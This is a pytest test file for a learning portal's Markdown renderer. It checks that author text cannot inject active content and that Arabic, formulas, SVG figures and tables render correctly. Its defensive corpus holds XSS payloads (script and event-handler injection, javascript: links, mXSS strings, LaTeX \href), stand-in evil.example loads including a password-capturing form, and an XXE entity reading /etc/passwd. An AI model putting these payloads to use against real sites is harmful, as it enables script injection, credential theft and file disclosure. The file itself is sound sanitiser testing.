"""Rendering: what Markdown becomes, whose direction it has, and that nothing of an author's runs in a reader's page (A31, A32)."""

import re
from html.parser import HTMLParser

import pytest

from portal.learning.content import figures, rendering
from portal.learning.content.maths import BadFormulaError, mathml
from portal.learning.content.model import Figure
from tests.factories.learning import course

SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">{inside}</svg>'


def html(text: str, language: str = "en", drawn: tuple[Figure, ...] = ()) -> str:
    return "".join(f"{piece.html}{piece.label if piece.kind == 'figure' else ''}" for piece in rendering.render(text, language, drawn).segments)


def kinds(text: str) -> list[str]:
    return [piece.kind for piece in rendering.render(text, "en").segments]


class Tags(HTMLParser):
    """Every element and attribute of a piece of HTML, as a browser's tokeniser sees them."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(markup)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


# A31, A32: what people try. Each is an author's text; none may leave an element or attribute that runs or loads.
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="https://evil.example"></iframe>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:msgbox)",
    '[a](https://x.example "title" onclick=alert(1))',
    "<javascript:alert(1)>",
    "![a](javascript:alert(1))",
    "![a](https://evil.example/pixel.png)",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    '!["><script>alert(1)</script>](figures/none.svg)',
    "`<script>alert(1)</script>`",
    "```python\n</code></pre><script>alert(1)</script>\n```",
    "```python onload=alert(1)\nx\n```",
    '```html"><script>alert(1)</script>\nx\n```',
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<script>alert(1)</script>}$",
    "$$\\text{</mtext></math><img src=x onerror=alert(1)>}$$",
    "$\\class{evil}{x}$",
    "$\\style{background:url(javascript:alert(1))}{x}$",
    "[x]{onclick=alert(1)}",
    "[x]{style=color:red}",
    "[x]{.evil #id}",
    "| a | b |\n|--|--|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    '| "onmouseover=alert(1) x=" | b |\n|--|--|\n| 1 | 2 |',
    "\ue0000\ue001 \ue00012\ue001",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '<a href="https://x.example" target=_blank>x</a>',
    "<style>*{background:url(https://evil.example)}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
]
HARMLESS_TAGS = rendering._TAGS | {"math", "mrow", "mi", "mn", "mo", "mtext", "mfrac", "msup", "msub", "svg"}
HARMLESS_ATTRIBUTES = {"href", "rel", "title", "class", "dir", "lang", "scope", "data-l", "display", "stretchy", "start"}


@pytest.mark.parametrize("text", ATTACKS)
@pytest.mark.parametrize("language", ["en", "ar"])
def test_a31_attack_is_inert(text: str, language: str) -> None:
    shown = html(f"Before.\n\n{text}\n\nAfter.", language)

    tags = Tags(shown).found
    assert {tag for tag, _ in tags} <= HARMLESS_TAGS
    for _, attributes in tags:
        assert set(attributes) <= HARMLESS_ATTRIBUTES
        assert re.match(r"https://|mailto:|[^:]*$", attributes.get("href") or "")
    assert "Before" in shown
    assert "After" in shown


def test_a31_corpus_would_be_seen() -> None:
    """The check above is not blind: the same texts as raw HTML fail it."""
    raw = [Tags(text).found for text in ATTACKS[:6]]
    assert all(any(tag not in HARMLESS_TAGS or set(attributes) - HARMLESS_ATTRIBUTES for tag, attributes in found) for found in raw)


@pytest.mark.parametrize(
    "inside",
    [
        "<script>alert(1)</script>",
        '<rect onload="alert(1)" width="1" height="1"/>',
        '<a href="javascript:alert(1)"><text>x</text></a>',
        '<image href="https://evil.example/x.png"/>',
        '<use href="#x"/>',
        "<foreignObject><p>x</p></foreignObject>",
        '<style>*{fill:url("https://evil.example")}</style>',
        '<rect style="fill:red" width="1" height="1"/>',
        '<animate attributeName="href" to="javascript:alert(1)"/>',
        '<text class="card">x</text>',
        '<path d="M0 0" fill="url(https://evil.example)"/>',
    ],
)
def test_a31_figure_is_refused_and_would_be_harmless(inside: str) -> None:
    svg = SVG.format(inside=inside)

    assert figures.problems_of(svg) != []
    drawn = figures.inline(Figure("x", svg), alternative="x", language="en")
    assert {tag for tag, _ in Tags(drawn).found} <= {"svg", "rect", "text", "path"}
    assert "evil" not in drawn
    assert "alert" not in drawn


@pytest.mark.parametrize(
    "svg",
    [
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><text>&x;</text></svg>',
        '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><svg viewBox="0 0 1 1"/>',
        "<svg viewBox='0 0 1 1'>",
        "<html/>",
    ],
)
def test_figure_with_entities_or_broken_is_refused(svg: str) -> None:
    assert figures.problems_of(svg) != []


def test_figure_speaks_the_language_of_the_lesson() -> None:
    inside = '<switch><text systemLanguage="ar" x="1" y="1">ذاكرة</text><text x="1" y="1">memory</text></switch>'
    figure = Figure("one", SVG.format(inside=inside), SVG.format(inside="<text>narrow</text>"))

    arabic = html('![وصف "الرسم"](figures/one.svg "شرح GPU")', "ar", (figure,))

    assert "ذاكرة" in arabic
    assert "memory" not in arabic
    assert 'role="img" aria-label="وصف &#34;الرسم&#34;"' in arabic
    assert "chart d-none d-md-block" in arabic
    assert "chart d-md-none" in arabic
    assert arabic.endswith("شرح <bdi>GPU</bdi>")
    assert "memory" in html("![x](figures/one.svg)", "fr", (figure,))


def test_code_reads_left_to_right_and_keeps_the_style_sheet_s_classes() -> None:
    block, inline = html("```python\nimport time  # later\n```", "ar"), html("السطر `f(x)` هنا", "ar")

    assert '<span class="kn">import</span>' in block
    assert '<span class="c1"># later</span>' in block
    assert '<code dir="ltr">f(x)</code>' in inline
    assert kinds("a\n\n```python\nx\n```\n\nb\n\n```output\n1\n```") == ["html", "code", "html", "output"]


def test_code_inside_a_list_stays_in_the_list() -> None:
    shown = html("- one\n\n  ```python\n  x = 1\n  ```\n")

    assert kinds("- one\n\n  ```python\n  x = 1\n  ```\n") == ["html"]
    assert '<li>\n<p>one</p>\n<pre dir="ltr"><code dir="ltr">x = 1\n</code></pre></li>' in shown


def test_formula_is_mathml_and_reads_left_to_right() -> None:
    shown = html("قيمة $n^2$ هنا\n\n$$\nI = \\frac{W}{Q}\n$$", "ar")

    assert '<math dir="ltr" display="inline"><mrow><msup><mi>n</mi><mn>2</mn></msup></mrow></math>' in shown
    assert '<math dir="ltr" display="block">' in shown
    assert "<mfrac>" in shown


def test_decimal_comma_stays_in_its_number() -> None:
    assert "<mn>3,35</mn>" in mathml("67 / 3{,}35 = 20", is_display=False)
    assert "<mn>3.35</mn>" in mathml("67 / 3.35 = 20", is_display=False)


def test_arabic_has_no_italics() -> None:
    assert html("نص *مهم* هنا", "ar") == "<p>نص <strong>مهم</strong> هنا</p>\n"
    assert html("an *important* text") == "<p>an <em>important</em> text</p>\n"


@pytest.mark.parametrize("latex", ["\\frac{1", "\\unknowncommand", "\\href{javascript:x}{y}", "\\text{<b>}", "\\text{<script>x</script>}"])
def test_bad_formula_is_refused(latex: str) -> None:
    with pytest.raises(BadFormulaError):
        mathml(latex, is_display=False)


def test_arabic_isolates_latin_and_numbers() -> None:
    shown = html("سرعة H100 هي 3.35\u202fTB/s تقريبًا، أي 67 مرة.", "ar")

    assert "<bdi>H100</bdi>" in shown
    assert '<bdi class="num" dir="ltr">3.35\u202fTB/s</bdi>' in shown
    assert '<bdi class="num" dir="ltr">67</bdi> مرة' in shown
    assert "<bdi" not in html("The H100 at 3.35 TB/s", "en")


@pytest.mark.parametrize(
    ("text", "runs"),
    [
        ("بين GPU و CPU.", ["GPU", "CPU"]),
        ("مكتبة PyTorch 2.9 الآن", ["PyTorch 2.9"]),
        ("نحو 0.4\u202f% فقط.", ["0.4\u202f%"]),
        ("من 1\u202f365 عملية", ["1\u202f365"]),
        ("الأداة (roofline).", ["roofline"]),
        ("C++ و f(x).", ["C++", "f(x)"]),
    ],
)
def test_isolated_runs_end_where_the_words_end(text: str, runs: list[str]) -> None:
    assert re.findall(r"<bdi[^>]*>([^<]*)</bdi>", rendering.isolated(text)) == runs
    assert re.sub(r"</?bdi[^>]*>", "", rendering.isolated(text)) == text


def test_language_and_direction_of_a_span_are_kept() -> None:
    assert '<span lang="fr" dir="ltr">octet</span>' in html("Le mot [octet]{lang=fr dir=ltr} ici")


def test_table_folds_and_names_its_rows() -> None:
    shown = html("| Figure | CPU |\n|:--|--:|\n| Power | 350 W |")

    assert '<table class="table table-fold">' in shown
    assert '<th scope="col">Figure</th>\n<th scope="col" class="n">CPU</th>' in shown
    assert '<th scope="row" class="wide">Power</th><td data-l="CPU" class="n wide">350 W</td>' in shown
    assert "style=" not in shown


def test_headings_begin_at_the_second_level_and_footnotes_are_off() -> None:
    assert html("# One\n\n### Three") == "<h2>One</h2><h3>Three</h3>"
    assert html("Text[^1]\n\nNote") == "<p>Text[^1]</p>\n<p>Note</p>\n"


def test_every_block_of_the_house_renders_without_problem_and_by_content() -> None:
    for lesson in course().lessons:
        for blocks in lesson.blocks.values():
            for block in blocks:
                if block.lab is None:
                    first = rendering.render(block.text, block.language, lesson.figures)
                    assert first.problems == ()
                    assert rendering.render(block.text, block.language, lesson.figures) is first
